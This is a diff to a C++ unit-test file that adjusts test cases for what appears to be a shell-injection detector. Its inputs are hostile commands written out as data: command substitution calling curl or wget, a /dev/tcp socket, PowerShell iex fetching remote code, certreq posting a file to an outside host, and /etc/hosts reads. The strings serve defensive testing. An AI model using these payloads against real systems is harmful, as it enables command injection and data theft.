@@ -56,7 +56,7 @@ INSTANTIATE_TEST_SUITE_P(
 INSTANTIATE_TEST_SUITE_P(InSubstitutions, IsShell,
                          testing::Values("$(id)", "`id`", "a$(sleep 5)b", "x`curl 192.0.2.1`",
                                          "\"$(id)\"", "<(id)", "x;cat >(tee /tmp/y)",
-                                         "`cd /tmp; wget http://192.0.2.1/x`"));
+                                         "a?u=\\`whoami\\`", "`cd /tmp; wget http://192.0.2.1/x`"));
 INSTANTIATE_TEST_SUITE_P(OutOfQuotes, IsShell,
                          testing::Values("'; sleep 5 #", "\"; sleep 5; \"", "x' || host a.b || '",
                                          "\" | id ;", "'|id|'", "\" ping.exe -n 31 127.0.0.1"));
@@ -78,9 +78,10 @@ INSTANTIATE_TEST_SUITE_P(
                     "{,echo,#x}", "x;pi<()ng 192.0.2.1", "kill '-'9", ";\\id"));
 INSTANTIATE_TEST_SUITE_P(Builtins, IsShell,
                          testing::Values("echo %USERNAME%", "; echo $HOME", ";. /etc/profile",
-                                         "exec 5<>/dev/tcp/192.0.2.1/9", ";compgen -c",
-                                         ";read a</etc/hosts", ";python3.11 -m http.server",
-                                         ";perl5.30 -v", ";nslookup `hostname`.a.example"));
+                                         "exec 5<>/dev/tcp/192.0.2.1/9", "& timeout /t 10",
+                                         ";compgen -c", ";read a</etc/hosts",
+                                         ";python3.11 -m http.server", ";perl5.30 -v",
+                                         ";nslookup `hostname`.a.example"));
 INSTANTIATE_TEST_SUITE_P(LinesOfSqlite, IsShell,
                          testing::Values(";.shell id", "1\n.system id", ";.import /etc/hosts t"));
 INSTANTIATE_TEST_SUITE_P(Statements, IsShell,
@@ -112,9 +113,8 @@ INSTANTIATE_TEST_SUITE_P(
                     "; iex (iwr http://192.0.2.1/x)", "| Get-ChildItem -Path c:\\", "; i`ex whoami",
                     "; &('i'+'ex') 'whoami'", "& (\"{1}{0}\" -f 'x','ie')",
                     "; [IO.File]::ReadAllText('c:\\x')", "; $c=New-Object Net.WebClient -x",
-                    "& timeout /t 10", "& certreq -Post -config http://192.0.2.1 c:\\x",
-                    "if not defined a (", "if (%1)==(a) cd c:\\", "if (a) == (a) echo same",
-                    "if/i a==b dir"));
+                    "& certreq -Post -config http://192.0.2.1 c:\\x", "if not defined a (",
+                    "if (%1)==(a) cd c:\\", "if (a) == (a) echo same", "if/i a==b dir"));
 
 class IsNoShell : public testing::TestWithParam<const char*> {};
 TEST_P(IsNoShell, InAnyPlace) {
